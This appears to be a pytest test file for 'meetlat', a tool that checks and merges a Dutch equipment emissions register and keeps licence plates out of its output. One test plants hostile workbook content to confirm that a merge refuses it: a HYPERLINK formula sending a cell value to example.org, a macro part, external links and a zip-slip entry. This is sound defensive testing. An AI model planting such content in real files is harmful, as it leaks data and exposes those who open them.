"""meetlat equipment register, and deployments held against it: what it answers, and with which exit code."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from tests.commands import Run, Said

HEAD = "machine,owner,kind,plate,power_kw,category,stage,energy,evidence\n"
PROVEN = "KR-1,Grondwerk BV,mobile,,100,,V,diesel,engine_plate\n"
UNPROVEN = "KR-2,Grondwerk BV,mobile,,100,,V,diesel,\n"
IMPOSSIBLE = "KR-3,Grondwerk BV,mobile,,50,,IV,diesel,engine_plate\n"
CAR = "12-ABC-3,Grondwerk BV,transport,,,M1,EURO 6,petrol,rdw\n"


def write(folder: Path, rows: str, name: str = "register.csv", head: str = HEAD) -> Path:
    path = folder / name
    path.write_text(head + rows, encoding="utf-8")
    return path


@pytest.fixture
def check(meetlat: Run, tmp_path: Path) -> Run:
    def run(rows: str, *words: str, plain: bool = False) -> Said:
        return meetlat(
            "equipment", "register", "check", write(tmp_path, rows), "--on", "2026-03-01", *words, plain=plain
        )

    return run


@pytest.mark.parametrize(
    ("rows", "code"),
    [
        (PROVEN, 0),
        (PROVEN + UNPROVEN, 3),
        (PROVEN + UNPROVEN + IMPOSSIBLE, 1),
        (CAR, 0),
        ("KR-1,,mobile,,0,,V,diesel,\n", 2),
        ("KR-1,,mobile,,100,,IVA,diesel,\n", 2),
        ("KR-1,,mobile,,100,,V,kolen,\n", 2),
        ("KR-1,,mobile,,100,,V,diesel,geloof\n", 2),
        ("", 2),
    ],
)
def test_exit_codes(check: Run, rows: str, code: int) -> None:
    assert check(rows).code == code


def test_a_machine_is_judged_with_what_to_ask(check: Run) -> None:
    (one,) = check(UNPROVEN).result["machines"]
    assert (one["machine"], one["owner"], one["outcome"], one["proven"]) == (
        "KR-2",
        "Grondwerk BV",
        "unknown",
        "no_document",
    )
    assert "typeplaatje" in one["ask"][0]


@pytest.mark.parametrize("plain", [True, False])
def test_a_plate_is_never_printed(check: Run, plain: bool) -> None:
    said = check(CAR + "BUS-1,,transport,45-DEF-6,,,,,rdw\n", plain=plain)
    assert "12-ABC-3" not in said.out
    assert "45-DEF-6" not in said.out
    assert "rij 2" in said.out
    assert "BUS-1" in said.out


DEPLOYED = "deployment,machine,kind,stage,from,to,hours,load_percent,distance_km\n"


@pytest.mark.parametrize(
    ("row", "register", "finding", "code"),
    [
        ("a,KR-1,mobile,,2025-03-01,2025-03-31,10,30,\n", PROVEN, [], 0),
        ("a,KR-1,mobile,IIIA,2025-03-01,2025-03-31,10,30,\n", PROVEN, ["register-contradicts"], 0),
        (
            "a,KR-2,mobile,IIIA,2025-03-01,2025-03-31,10,30,\n",
            UNPROVEN,
            ["register-contradicts", "register-unproven"],
            3,
        ),
        ("a,KR-9,mobile,,2025-03-01,2025-03-31,10,30,\n", PROVEN, ["register-missing"], 3),
    ],
)
def test_deployments_are_judged_by_the_register(
    meetlat: Run, tmp_path: Path, row: str, register: str, finding: list[str], code: int
) -> None:
    file = write(tmp_path, row, "inzet.csv", DEPLOYED)
    said = meetlat("equipment", "check", file, "--level", "basic", "--register", write(tmp_path, register))
    found = [one["code"] for one in said.result["findings"]]
    assert (said.code, [code for code in found if code.startswith("register")]) == (code, finding)
    assert "class-evidence" in {figure["table"] for figure in said.json["figures"]}


@pytest.mark.parametrize("command", ["share", "emissions"])
def test_other_answers_say_what_the_register_brought_to_light(meetlat: Run, tmp_path: Path, command: str) -> None:
    file = write(tmp_path, "a,KR-9,mobile,,2025-03-01,2025-03-31,10,30,\n", "inzet.csv", DEPLOYED)
    said = meetlat("equipment", command, file, "--register", write(tmp_path, PROVEN))
    assert said.code == 0
    assert "register-missing" in {caveat["code"] for caveat in said.json["caveats"]}


def test_a_form_for_each_partner_of_the_deployments(meetlat: Run, tmp_path: Path) -> None:
    file = write(tmp_path, "a,KR-1,mobile,,2025-03-01,2025-03-31,,,\n", "inzet.csv", DEPLOYED)
    register = write(tmp_path, PROVEN + "KR-2,Verhuur BV,mobile,,,,,,\n")
    said = meetlat("equipment", "register", "form", "--out", tmp_path / "uit", "--register", register, "--from", file)
    assert [(one["partner"], one["machines"]) for one in said.result] == [("Grondwerk BV", 1)]
    said = meetlat("equipment", "register", "form", "--out", tmp_path / "uit", "--register", register)
    assert [Path(one["file"]).name for one in said.result] == ["grondwerk-bv.xlsx", "verhuur-bv.xlsx"]
    assert all(Path(one["file"]).is_file() for one in said.result)


@pytest.mark.parametrize(
    ("words", "column"), [((), "--out"), (("--partner", "Verhuur"), "--partner"), (("--on", "2026-02-30"), "--on")]
)
def test_a_form_that_cannot_be_made_is_refused(
    meetlat: Run, tmp_path: Path, words: tuple[str, ...], column: str
) -> None:
    register = write(tmp_path, PROVEN + "KR-2,Verhuur BV,mobile,,,,,,\n")
    said = meetlat("equipment", "register", "form", "--out", tmp_path / "x.xlsx", "--register", register, *words)
    assert (said.code, [problem["column"] for problem in said.problems]) == (2, [column])
    assert not (tmp_path / "x.xlsx").exists()


def formula(raw: bytes) -> bytes:
    """Put a formula where a partner should state a class."""
    book = openpyxl.load_workbook(io.BytesIO(raw))
    sheet = book["materieelregister"]
    (column,) = [cell.column for cell in sheet[1] if cell.value == "emissieklasse"]
    sheet.cell(2, column).value = '=HYPERLINK("http://example.org/"&A2,"V")'
    changed = io.BytesIO()
    book.save(changed)
    return changed.getvalue()


def with_part(name: str) -> Callable[[bytes], bytes]:
    def add(raw: bytes) -> bytes:
        changed = io.BytesIO(raw)
        with zipfile.ZipFile(changed, "a") as package:
            package.writestr(name, b"<x/>")
        return changed.getvalue()

    return add


@pytest.mark.parametrize(
    ("harm", "message"),
    [
        (formula, "formule"),
        (with_part("xl/vbaProject.bin"), "macro's"),
        (with_part("xl/externalLinks/externalLink1.xml"), "van buiten"),
        (with_part("../../outside.xml"), ""),
        (lambda raw: raw[: len(raw) // 2], ""),
    ],
    ids=["formula", "macros", "links", "slip", "cut"],
)
def test_a_hostile_form_is_refused_and_the_others_are_merged(
    meetlat: Run, tmp_path: Path, harm: Callable[[bytes], bytes], message: str
) -> None:
    """One partner's bad workbook keeps nobody else's answer out, and not a cell of it gets in."""
    register, out = write(tmp_path, PROVEN), tmp_path / "nieuw.xlsx"
    meetlat("equipment", "register", "form", "--out", tmp_path / "terug.xlsx", "--register", register)
    bad, good = tmp_path / "slecht.xlsx", write(tmp_path, UNPROVEN, "goed.csv")
    bad.write_bytes(harm((tmp_path / "terug.xlsx").read_bytes()))
    said = meetlat("equipment", "register", "merge", register, bad, good, "--out", out)
    assert (said.code, said.result["added"]) == (0, ["KR-2"])
    assert message in said.json["problems"][0]["message"]
    assert said.json["problems"][0]["file"] == str(bad)
    alone = meetlat("equipment", "register", "merge", register, bad, "--out", out)
    assert alone.code == 2


def test_a_form_that_came_back_untouched_changes_nothing(meetlat: Run, tmp_path: Path) -> None:
    register, form = write(tmp_path, PROVEN + UNPROVEN), tmp_path / "terug.xlsx"
    meetlat("equipment", "register", "form", "--out", form, "--register", register)
    said = meetlat("equipment", "register", "merge", register, form, "--out", tmp_path / "nieuw.xlsx")
    empty = [said.result[name] for name in ("added", "filled", "contradictions", "ambiguous", "not_returned")]
    assert empty == [[], [], [], [], []]
    again = meetlat("equipment", "register", "check", tmp_path / "nieuw.xlsx", "--on", "2026-03-01")
    assert [one["outcome"] for one in again.result["machines"]] == ["met", "unknown"]


def test_a_contradiction_is_printed_without_a_plate_and_marked_in_the_workbook(meetlat: Run, tmp_path: Path) -> None:
    register = write(tmp_path, "BUS-1,Vervoer BV,transport,12-ABC-3,,N1,EURO 5,diesel,\n")
    back = write(tmp_path, "BUS-1,Vervoer BV,transport,12-ABD-3,,N1,EURO 6,diesel,\n", "terug.csv")
    out = tmp_path / "nieuw.xlsx"
    said = meetlat("equipment", "register", "merge", register, back, "--out", out)
    assert [(one["column"], one["kept"]) for one in said.result["contradictions"]] == [
        ("plate", "[kenteken]"),
        ("stage", "EURO 5"),
    ]
    assert "ABC" not in said.out
    printed = meetlat("equipment", "register", "merge", register, back, "--out", out, plain=True).out
    assert " [kenteken] " in printed
    assert "ABC" not in printed
    book = openpyxl.load_workbook(out)
    log = [cell.value for row in book["Samenvoeging"] for cell in row]
    assert {"12-ABC-3", "12-ABD-3"} <= set(log)  # who must choose sees both
    sheet = book["materieelregister"]
    assert len([cell for cell in sheet[2] if cell.fill.fgColor.rgb == "FFFFF3C4"]) == 2


def test_a_folder_of_forms_is_merged(meetlat: Run, tmp_path: Path) -> None:
    folder = tmp_path / "terug"
    folder.mkdir()
    write(folder, UNPROVEN, "a.csv")
    write(folder, "KR-5,,mobile,,,,,,\n", "b.csv")
    (folder / "~$a.xlsx").write_bytes(b"lock")
    said = meetlat("equipment", "register", "merge", write(tmp_path, PROVEN), folder, "--out", tmp_path / "n.xlsx")
    assert said.result["added"] == ["KR-2", "KR-5"]


def test_a_register_is_written_as_a_workbook_only(meetlat: Run, tmp_path: Path) -> None:
    register = write(tmp_path, PROVEN)
    said = meetlat("equipment", "register", "merge", register, register, "--out", tmp_path / "nieuw.csv")
    assert (said.code, said.problems[0]["column"]) == (2, "--out")


def look_up(meetlat: Run, folder: Path, rows: str, *fuels: dict[str, str], category: str = "N1") -> Said:
    vehicles = [{"kenteken": "V000AE", "europese_voertuigcategorie": category, "datum_eerste_toelating": "20190314"}]
    for name, content in (("v.json", vehicles), ("f.json", [{"kenteken": "V000AE", **one} for one in fuels])):
        (folder / name).write_text(json.dumps(content), encoding="utf-8")
    files = ("--vehicles", folder / "v.json", "--fuels", folder / "f.json", "--out", folder / "nieuw.xlsx")
    return meetlat("equipment", "register", "rdw", write(folder, rows), *files, "--on", "2026-03-01")


DIESEL = {"brandstof_omschrijving": "Diesel", "uitlaatemissieniveau": "EURO 6"}


def test_a_registration_fills_the_register_in(meetlat: Run, tmp_path: Path) -> None:
    said = look_up(meetlat, tmp_path, "BUS-1,,transport,V-000-AE,,,,,\n", DIESEL)
    filled = {one["column"]: one["given"][0]["value"] for one in said.result["filled"]}
    assert filled == {
        "category": "N1",
        "stage": "EURO 6",
        "built_on": "14-3-2019",
        "energy": "diesel",
        "evidence": "RDW-registratie",
        "evidence_file": "f.json",
    }
    assert (said.code, said.result["findings"]) == (0, [])
    again = meetlat("equipment", "register", "check", tmp_path / "nieuw.xlsx", "--on", "2026-03-01")
    assert again.result["outcome"] == "met"


@pytest.mark.parametrize(
    ("row", "fuel", "category", "code"),
    [
        ("BUS-1,,transport,V-000-AE,,,,,\n", DIESEL, "M1", "rdw-passenger-car"),
        ("BUS-1,,transport,V-000-AE,,,,,\n", {"brandstof_omschrijving": "Diesel"}, "N1", "rdw-no-class"),
        ("BUS-1,,transport,45-DEF-6,,,,,\n", DIESEL, "N1", "rdw-missing"),
        ("KR-1,,mobile,V-000-AE,100,,,,\n", DIESEL, "N1", "rdw-no-stage"),
    ],
)
def test_what_a_registration_does_not_say_is_found(
    meetlat: Run, tmp_path: Path, row: str, fuel: dict[str, str], category: str, code: str
) -> None:
    said = look_up(meetlat, tmp_path, row, fuel, category=category)
    assert [one["code"] for one in said.result["findings"]] == [code]
    assert "V-000-AE" not in said.out
    assert "45-DEF-6" not in said.out


def test_a_date_of_admission_suggests_a_class_and_fills_none_in(meetlat: Run, tmp_path: Path) -> None:
    said = look_up(meetlat, tmp_path, "BUS-1,,transport,V-000-AE,,,,,\n", {"brandstof_omschrijving": "Diesel"})
    assert "EURO 6 waarschijnlijk" in said.result["findings"][0]["message"]
    assert {"stage", "evidence"}.isdisjoint(one["column"] for one in said.result["filled"])


def test_an_unknown_word_of_the_rdw_is_named_at_its_place(meetlat: Run, tmp_path: Path) -> None:
    said = look_up(meetlat, tmp_path, "BUS-1,,transport,V-000-AE,,,,,\n", {"brandstof_omschrijving": "Kolen"})
    (problem,) = said.json["problems"]
    assert (problem["row"], problem["column"], problem["found"]) == (1, "brandstof_omschrijving", "Kolen")
    assert "BUS-1" in problem["message"]


def test_a_registration_that_contradicts_the_register_is_listed(meetlat: Run, tmp_path: Path) -> None:
    said = look_up(meetlat, tmp_path, "BUS-1,,transport,V-000-AE,,N2,EURO VI,diesel,\n", DIESEL)
    assert [(one["column"], one["kept"]) for one in said.result["contradictions"]] == [
        ("category", "N2"),
        ("evidence", None),
        ("evidence_file", None),
    ]
